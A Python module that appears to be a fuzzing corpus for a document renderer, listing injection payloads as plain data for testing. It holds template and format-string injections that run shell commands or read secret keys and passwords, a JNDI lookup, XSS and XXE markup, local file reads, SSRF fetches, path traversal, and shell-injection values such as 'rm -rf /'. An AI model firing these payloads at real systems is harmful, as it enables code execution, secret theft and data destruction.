"""What somebody might type to make a paper fetch, embed, run or never end; data alone."""

FILE, NET = "file:///etc/passwd", "http://192.0.2.1/x"

BRACES = (
    "{basis.__class__}", "{basis.__class__.__mro__[1].__subclasses__()}", "{0}", "{}", "{0.real}",
    "{basis!r}", "{basis!s:>10}", "{basis:>999999999}", "{basis:{phone}}", "{{basis}}",
    "{{{basis}}}", "{" * 5_000, "}" * 5_000, "{basis", "basis}", "{ basis }", "{Basis}", "{基}",
    "{basis\n}", "{__import__('os').system('id')}", "{settings.SECRET_KEY}", "{self}", "${basis}",
    "%(basis)s", "%s%n%x", "#{7*7}", "${jndi:ldap://192.0.2.1/a}", "$$basis$$", "<%= 7*7 %>",
)  # fmt: skip
TEMPLATES = (
    "{% include 'base.html' %}", "{% load static %}{% static 'x' %}", "{{ settings.SECRET_KEY }}",
    "{% debug %}", "{{ 7*7 }}", "{# hidden #}", "{% autoescape off %}<b>{% endautoescape %}",
    "{{ request.user.password }}", "{{ ''.__class__.__mro__ }}", "{%- raw -%}",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", f'<img src="{FILE}">', f"<img src={NET}>", f"<link href={NET}>",
    f'<link rel=attachment href="{FILE}">', f'<a rel="attachment" href="{FILE}">附件</a>',
    f'<iframe src="{NET}"></iframe>', f'<object data="{FILE}"></object>', f'<embed src="{FILE}">',
    f"<style>@import url({FILE});</style>", f"<style>@font-face{{src:url({NET})}}</style>",
    f'<p style="background:url({NET})">', "<style>@page{size:1mm}</style>",
    f'<svg><image href="{NET}"/></svg>', f'<svg onload="fetch(\'{NET}\')">', "<svg/><use href=#a>",
    f'<base href="{NET}">', f"<meta http-equiv=refresh content=0;url={NET}>", "</p></body></html>",
    "</textarea><script>alert(1)</script>", "<!-- 注释 -->", "<![CDATA[x]]>", "<?php echo 1 ?>",
    f'<?xml-stylesheet href="{NET}"?>', f'<!DOCTYPE x [<!ENTITY e SYSTEM "{FILE}">]>&e;',
    "&lt;b&gt;&amp;&quot;", "&#60;script&#62;", "&nbsp;&e;", "\"'><b>", "<b" * 2_000,
)  # fmt: skip
ADDRESSES = (
    "url(data:text/html;base64,PHNjcmlwdD4=)", "data:image/svg+xml,<svg/>", "javascript:alert(1)",
    f"@import url('{NET}');", "asset:seal", "expression(alert(1))", f"url({FILE})", FILE, NET,
    "../../../../etc/passwd", "\\\\192.0.2.1\\share", "; rm -rf /", "$(id)", "`id`",
)  # fmt: skip
SIGNS = (
    "\u202e倒写\u202c", "\u2066隔离\u2069", "\u200b零\u200d宽\ufeff", "\u00ad软", "\x00空",
    "\x1b[31m红", "\x07\x08\x7f", "\x85\u2028\u2029行", "\ud83d", "\U000e0041标签", "\u034f",
    "\ufff9注\ufffb", "\ue000私用", "\ufdd0非字符", "\U0001f600", "a\u0301" * 200,
    "\u0300" * 400, "ﷺ" * 40, "　" * 200,
)  # fmt: skip
SIZES = (
    "长" * 20_001, "长" * 19_000, "a" * 19_000, "a " * 9_000, "一\n" * 9_000, "·" * 5_000,
    "（" * 3_000, "一、" * 3_000, "=HYPERLINK(1)", "\t" * 500,
)  # fmt: skip

PAYLOADS = (*BRACES, *TEMPLATES, *MARKUP, *ADDRESSES, *SIGNS, *SIZES)
SAMPLE = (
    "{basis.__class__}", "{basis:>999999999}", "{{ settings.SECRET_KEY }}",
    "<script>alert(1)</script>", f'<img src="{FILE}">', f"<style>@import url({FILE});</style>",
    f'<svg><image href="{NET}"/></svg>', "url(data:text/html;base64,PHNjcmlwdD4=)",
    "\u202e倒写\u202c",
)  # fmt: skip
